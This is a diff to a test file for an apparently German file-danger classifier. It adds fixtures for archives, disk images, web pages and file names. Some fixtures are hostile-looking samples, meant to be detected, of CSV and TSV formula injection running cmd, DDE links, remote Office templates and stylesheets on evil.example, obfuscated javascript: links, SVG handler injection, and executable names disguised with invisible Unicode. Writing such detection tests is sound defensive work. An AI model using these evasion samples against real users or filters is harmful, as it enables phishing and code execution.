@@ -133,6 +133,23 @@ def overlapping(members: int, content: bytes) -> bytes:
     return local + entry * members + end
 
 
+def tar_of(name: bytes) -> bytes:
+    """Return the header of tar before POSIX: without a signature, but with a sum."""
+    head = name.ljust(100, b"\0") + b"0000644\0" * 3 + b"00000000000\0" * 2
+    head = (head + b" " * 8).ljust(512, b"\0")
+    return head.replace(b" " * 8, b"%06o\0 " % sum(head))
+
+
+def two_names(name: str, other: str) -> bytes:
+    """Return an archive in which a file has another name in UTF-8 as well (PKWARE APPNOTE 4.6.9)."""
+    file, member = io.BytesIO(), zipfile.ZipInfo(name)
+    path = b"\1" + struct.pack("<I", zlib.crc32(name.encode())) + other.encode()
+    member.extra = struct.pack("<HH", 0x7075, len(path)) + path
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr(member, b"x")
+    return file.getvalue()
+
+
 P, M, A, S, N = Danger.PROGRAM, Danger.MACROS, Danger.ARCHIVE, Danger.OPAQUE, Danger.NONE
 FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
     ("a program", "rechnung.exe", PE, P),
@@ -232,6 +249,15 @@ FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
     ("Office 22", "liste.csv", b"a;=cmd|'/c calc'!A0;b\n", M),
     ("C31 a web query of Excel", "abfrage.txt", b"WEB\r\n1\r\nhttps://evil.example/x\r\n", P),
     ("Office 24", "treiber", compound_file({"a": b"x"}, INSTALLER), P),
+    ("Office, formula with double quotes", "liste.tsv", b'a\t+cmd|"/c calc"!A0\tb\n', M),
+    ("Office, a list with bars", "liste.csv", b'a;"Raum 3 | Beamer defekt!";b\n', N),
+    ("Office, prefix of a relationship", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP.replace(b"<Rel", b"<r:Rel") % b"https://evil.example/x.dotm"), M),
+    ("Office, target as references", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP % b"&#104;ttps://evil.example/x.dotm"), M),
+    ("Office, prefix of DDE", "liste.xlsx", archive(xl__externalLinks__externalLink1_xml=b"<x:ddeLink ddeService='cmd'/>"), M),
+    ("Office, macros in one XML file", "brief.xml", b"<?xml version='1.0'?><pkg:part pkg:contentType='application/vnd.ms-office.vbaProject'/>", M),
+    ("Office, Word 2003", "brief.xml", b"<?xml version='1.0'?><w:wordDocument w:macrosPresent='yes'/>", M),
+    ("Office, flat ODF", "brief.fodt", b"<?xml version='1.0'?><office:document><office:script script:language='ooo:Basic'/></office:document>", M),
+    ("Office, flat ODF without macros", "brief.fodt", b"<?xml version='1.0'?><office:document><text:p>Skript</text:p></office:document>", N),
     # archives
     ("C18 an archive behind other bytes", "fotos.zip", b"\0" * 900 + archive(a_exe=PROGRAM), A),
     ("archives 2", "", b"GIF89a" + archive(a_exe=PROGRAM), A),
@@ -244,6 +270,15 @@ FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
     ("archives 9", "x", b"\0" * 7 + b"**ACE**" + b"\0" * 50, S),
     ("archives 10", "x", b"LZIP\x01" + b"\0" * 50, S),
     ("archives 11", "fotos.txt", b"begin 644 tool.exe\nM35J0\n`\nend\n", S),
+    ("archives, oldest form of tar", "x", tar_of(b"a.exe"), S),
+    ("archives, a text as long as a header of tar", "x.txt", b"7".ljust(512, b" "), N),
+    ("archives, 7z behind a picture", "foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 3_000 + b"7z\xbc\xaf\x27\x1c", S),
+    ("archives, RAR behind a picture", "foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 3_000 + b"Rar!\x1a\x07\1", S),
+    ("archives, a second file of RAR", "fotos.r01", b"x", S),
+    ("archives, a second file of 7z", "fotos.7z.002", b"x", S),
+    ("archives, a date as the end of the name", "Plan zum 30.11", b"Montag", N),
+    ("archives, a mailbox of Outlook", "archiv", b"!BDN" + b"\0" * 50, S),
+    ("archives, another name in UTF-8", "fotos.zip", two_names("a.txt", "a.exe"), A),
     # disk images and packages
     ("C35 a disk image by its content", "x", image(b"CD001\x01", 0x8001), P),
     ("disk images and packages 2", "x", image(b"NSR02\x01", 0x8801), P),
@@ -254,6 +289,8 @@ FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
     ("disk images and packages 7", "x", b"\xed\xab\xee\xdb\3\0", P),
     ("disk images and packages 8", "x", b"xar!\0\x1c", P),
     ("disk images and packages 9", "x", b"MSWIM\0\0\0", P),
+    ("disk images and packages, a profile of iOS", "wlan.xml", b"<?xml version='1.0'?><plist><dict><key>PayloadContent</key>", P),
+    ("disk images and packages, AppleScript", "x", b"FasdUAS 1.101.10", P),
     # web pages
     ("C20 a script behind a character reference", "plan.html", b"<a href='java&#x73;cript:a()'>x</a>", P),
     ("web pages 2", "plan.html", b"<a href='&#0000106;avascript:a()'>x</a>", P),
@@ -263,15 +300,19 @@ FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
     ("web pages 6", "daten.xml", b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>a()</x:script>", P),
     ("web pages 7", "daten.xml", b"<?xml version='1.0'?><lager><object name='Beamer'/></lager>", N),
     ("web pages, a style that is fetched", "daten.xml", b"<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?><a/>", P),
+    ("web pages, a handler that is set", "logo.svg", b"<svg><set attributeName='onmouseover' to='a()'/></svg>", P),
+    ("web pages, a file that a link saves", "plan.html", b"<html><a download='a.zip' href=' data:application/zip;base64,UEs='>x</a>", P),
+    ("web pages, a picture in the page", "plan.svg", b"<svg><image xlink:href='data:image/png;base64,iVBO'/></svg>", N),
     ("web pages 8", "plan.html", b"<html>" + b"x" * limits.PAGES, S),
     # names
     *((f"suffix {suffix}", f"datei.{suffix}", b"x", P) for suffix in (
         "library-ms", "settingcontent-ms", "search-ms", "pyw", "desktop", "jnlp", "deb", "rpm", "msix",
         "appinstaller", "url", "website", "iqy", "rdp", "theme", "xpi", "webloc", "flatpakref", "vmdk",
+        "ppkg", "csproj", "rb", "ica", "contact", "{00024500-0000-0000-c000-000000000046}",
         "mdb", "accdb", "msh2xml", "vbp", "prg", "ops", "htc", "pl",
     )),
     *((f"name {name!r}", name, b"x", P) for name in (
-        "start.exe\u200b", "start.exe\xa0", "start.\uff45\uff58\uff45", "start.exe::$DATA", "AW: start.exe",
+        "start.exe\u200b", "start.exe\xa0", "start.\uff45\uff58\uff45", "start.exe::$DATA", "start.exe\u2028", 'start.exe"?', "AW: start.exe",
     )),
     ("names 1", "run", b"Wettlauf", N),
     ("names 2", "anleitung.txt", b"Legen Sie eine Datei mit [Desktop Entry] an.", N),
